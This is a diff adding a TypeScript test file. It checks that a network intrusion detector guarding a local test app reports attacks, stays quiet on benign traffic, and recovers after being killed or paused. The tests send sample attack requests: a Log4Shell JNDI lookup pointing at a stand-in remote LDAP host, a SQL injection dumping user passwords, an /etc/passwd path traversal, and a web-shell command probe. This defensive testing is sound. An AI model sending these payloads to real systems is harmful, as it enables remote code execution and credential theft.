@@ -1,0 +1,122 @@
+import assert from 'node:assert/strict'
+import { after, before, test } from 'node:test'
+import type { NetworkEvent } from '#contract/guard.ts'
+import { INSTANCE_PORT } from '#contract/installation.ts'
+import { LABELS } from '#runtime/drivers/docker.ts'
+import { run } from '#runtime/drivers/process.ts'
+import { makeTestAgent, type TestAgent } from './test-agent.ts'
+import { get, until } from './test-host.ts'
+
+const SHOP = 'shop.test.localhost'
+const BIG = 3_000_000
+/** Answers everything, what is asked for as a big page with megabytes. */
+const PROGRAM = `require('http').createServer((q,r)=>r.end(q.url==='/big'?Buffer.alloc(${BIG},97):'hello')).listen(${INSTANCE_PORT});process.on('SIGTERM',()=>process.exit(0))`
+
+let agent: TestAgent
+let seen = 0
+
+before(async () => {
+  agent = await makeTestAgent(189)
+  await agent.put(['shop', [agent.instance('web', 1, 1, PROGRAM, { traffic: 'serve' })]])
+  await until('the app answers', async () => (await get(agent.host, SHOP)).status === 200)
+  await until('the detector counts', async () => (await detector()).packets > 0)
+})
+after(() => agent?.destroy())
+
+const detector = async () => {
+  const { detector: said } = await agent.client.report(0, 0)
+  assert.ok(said, 'a full host has a detector')
+  return said
+}
+const container = async () => (await agent.containers({ [LABELS.component]: 'detector' }))[0]
+
+/** What was found since it was asked last; waits until there is something. */
+async function news(waitMs: number): Promise<NetworkEvent[]> {
+  const end = performance.now() + waitMs
+  for (;;) {
+    const left = end - performance.now()
+    const report = await agent.client.guard(seen, Math.max(0, Math.round(left)), new AbortController().signal)
+    seen = report.sequence
+    const found = report.events.filter(({ finding_info }) => finding_info !== undefined)
+    if (found.length > 0 || left <= 0) return found
+  }
+}
+
+/** Attacks, and waits until that is told of. A detector that has just started may not be looking yet. */
+async function attack(path: string): Promise<NetworkEvent> {
+  return await until('the attack is told of', async () => {
+    await get(agent.host, SHOP, path)
+    return (await news(1_000))[0]
+  })
+}
+
+test('an attack on an app is told of within a second, with who, whom and what it means', async (t) => {
+  await attack('/?q=${jndi:ldap://192.0.2.66/first}')
+  seen = (await agent.client.guard(0, 0, new AbortController().signal)).sequence
+  const began = performance.now()
+  await get(agent.host, SHOP, "/items?id=1'%20UNION%20SELECT%20name,password%20FROM%20users--")
+  const [event] = await news(5_000)
+  const tookMs = Math.round(performance.now() - began)
+  t.diagnostic(`told of ${tookMs} ms after the request was begun`)
+  assert.ok(event)
+  assert.deepEqual(
+    [event.kind, event.src_endpoint.ip, event.target_app, event.app, event.disposition],
+    ['web attack', '127.0.0.1', 'shop', null, 'Logged'],
+  )
+  assert.match(
+    event.message,
+    /^127\.0\.0\.1 sent a request with injected SQL .*, to the app shop: GET shop\./,
+  )
+  assert.ok(tookMs < 1_000, `${tookMs} ms`)
+})
+
+test('ordinary requests are not told of', async () => {
+  for (const path of ['/', '/style.css', '/search?q=student%20union%20select%20committee', '/big'])
+    assert.equal((await get(agent.host, SHOP, path)).status, 200)
+  assert.deepEqual(await news(2_000), [])
+})
+
+test('connections that the edge keeps open are read to their end, however much went through them', async () => {
+  for (let times = 0; times < 3; times++) await get(agent.host, SHOP, '/big')
+  assert.equal((await attack('/page?file=/etc/passwd')).finding_info?.uid, '7000011')
+})
+
+test('a detector that is killed is there again, and finds attacks again', async (t) => {
+  const { id } = (await container()) ?? {}
+  const detail = await agent.host.docker.containers.inspect(id ?? '')
+  const began = performance.now()
+  process.kill(detail?.pid ?? 0, 'SIGKILL')
+  assert.equal((await attack('/cmd.jsp?c=ls')).finding_info?.uid, '7000040')
+  t.diagnostic(`found the next attack ${Math.round(performance.now() - began)} ms after it was killed`)
+})
+
+test('one that is frozen is an alarm; what it missed meanwhile is one, too, after it goes on', async () => {
+  const name = (await container())?.name ?? ''
+  await run(['docker', 'pause', name])
+  try {
+    // More than the memory in which packets wait for it.
+    for (let times = 0; times < 30; times++) await get(agent.host, SHOP, '/big')
+    await until('silence is told of', async () => /said nothing since/.test((await detector()).problem))
+    const { components } = await agent.client.report(0, 0)
+    assert.equal(components.find(({ component }) => component === 'detector')?.state, 'degraded')
+  } finally {
+    await run(['docker', 'unpause', name])
+  }
+  await until('missed packets are told of', async () =>
+    /missed \d+ of \d+ packets/.test((await detector()).problem),
+  )
+  assert.ok((await detector()).dropped > 0)
+})
+
+test('what it costs', async (t) => {
+  const { stdout } = await run([
+    'docker',
+    'top',
+    (await container())?.name ?? '',
+    '-eo',
+    'rss,pcpu,etimes,args',
+  ])
+  t.diagnostic(stdout.trim())
+  const rssKb = Number(/^\s*(\d+)\s.*suricata -c/m.exec(stdout)?.[1])
+  assert.ok(rssKb > 0 && rssKb < 200_000, stdout)
+})
